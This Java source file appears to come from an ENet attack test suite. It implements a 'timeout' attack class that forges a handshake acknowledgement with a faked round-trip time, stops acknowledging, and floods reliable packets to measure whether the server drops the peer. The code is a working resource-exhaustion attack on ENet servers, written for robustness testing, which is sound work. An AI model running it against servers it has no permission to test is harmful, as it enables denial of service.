package dev.entitynet.examples.enetattack;

import dev.entitynet.examples.Arguments;
import dev.entitynet.examples.enetattack.session.MilliClock;
import dev.entitynet.examples.enetattack.session.RawPeer;
import dev.entitynet.examples.enetattack.session.SessionListener;
import dev.entitynet.transport.enet.protocol.Protocol;

import java.nio.ByteBuffer;
import java.util.Set;

/**
 * A peer that stretches the server's timers and then acknowledges nothing. It acknowledges
 * VERIFY_CONNECT echoing a sent time {@code --age-ms} in the past (so a server that believes the
 * echo measures a round trip of that length and scales its retransmission and timeout timers by
 * it); if the server rejects that, it completes the handshake honestly. From then on it never
 * acknowledges anything, yet keeps sending reliable packets for the echo server to queue back to
 * it. Reports how long the server kept acknowledging and sending to it, and how much it was asked
 * to queue. A server that enforces ENet's timeout drops the peer within the timeout maximum (30 s
 * by default); observe at least that long to see it.
 */
final class TimeoutAttack implements Attack {
    private static final long QUIET_END_MILLIS = 1000;

    @Override
    public String name() {
        return "timeout";
    }

    @Override
    public String usage() {
        return "[--seconds 35] [--age-ms 30000] [--rate 20] [--packet-bytes 1000]";
    }

    @Override
    public Set<String> options() {
        return Set.of("seconds", "age-ms", "rate", "packet-bytes");
    }

    @Override
    public Results run(Target target, Arguments a) {
        long observeMillis = (long) (a.doubleValue("seconds", 35) * 1000);
        int age = Math.max(1, Math.min(32_000, a.intValue("age-ms", 30_000)));
        double rate = a.doubleValue("rate", 20);
        byte[] payload = new byte[Math.max(1, Math.min(a.intValue("packet-bytes", 1000), RawPeer.MTU - 32))];
        java.util.Arrays.fill(payload, (byte) 0x54);
        Results results = new Results(name()).put("forged_age_ms", age);
        try (RawPeer peer = RawPeer.open(target.anyLocal(), target.server(), target.channels(), target.random().nextInt(), false)) {
            peer.acks(RawPeer.Acks.NONE);
            peer.sendConnect();
            if (!peer.awaitVerify(MilliClock.millis() + 5000, true)) {
                return results.put("handshake", false);
            }
            int ping = peer.acknowledgeVerify((peer.verifySentTime() - age) & 0xFFFF, true);
            boolean forged = peer.awaitSystemAck(ping, MilliClock.millis() + 1000, false);
            boolean connected = forged;
            if (!forged) {
                ping = peer.acknowledgeVerify(peer.verifySentTime(), true);
                connected = peer.awaitSystemAck(ping, MilliClock.millis() + 2000, true);
            }
            results.put("forged_handshake_accepted", forged).put("handshake", connected);
            if (!connected) {
                return results;
            }
            Observer observer = new Observer();
            long start = MilliClock.millis();
            long end = start + observeMillis;
            RatePacer pacer = new RatePacer(rate);
            long requested = 0;
            while (MilliClock.millis() < end) {
                for (int n = pacer.due(); n > 0; n--) {
                    peer.sendReliable(0, payload, 0, payload.length);
                    requested += payload.length;
                }
                peer.poll(5, observer);
            }
            long lastAck = observer.lastAck < 0 ? -1 : observer.lastAck - start;
            long lastDatagram = observer.lastDatagram < 0 ? -1 : observer.lastDatagram - start;
            boolean alive = observer.lastAck >= end - QUIET_END_MILLIS;
            results.put("observed_ms", MilliClock.millis() - start)
                    .put("echo_bytes_requested", requested)
                    .put("server_datagrams", peer.link().datagramsReceived())
                    .put("server_bytes", peer.link().bytesReceived())
                    .put("echo_bytes_received", observer.dataBytes)
                    .put("last_ack_ms", lastAck)
                    .put("last_server_datagram_ms", lastDatagram)
                    .put("disconnect_seen", observer.disconnect)
                    .put("alive_at_end", alive)
                    .put("dropped", !alive);
            peer.disconnect();
        }
        return results;
    }

    /** Times of the server's last datagram and last acknowledgement; echoed bytes (retransmissions included). */
    private static final class Observer implements SessionListener {
        long lastAck = -1;
        long lastDatagram = -1;
        long dataBytes;
        boolean disconnect;

        @Override
        public void datagram(int length) {
            lastDatagram = MilliClock.millis();
        }

        @Override
        public void acknowledged(int channel, int sequence) {
            if (channel != Protocol.SYSTEM_CHANNEL) {
                lastAck = MilliClock.millis();
            }
        }

        @Override
        public void received(int command, int channel, ByteBuffer datagram, int payloadAt, int payloadLength) {
            dataBytes += payloadLength;
        }

        @Override
        public void disconnected() {
            disconnect = true;
        }
    }
}
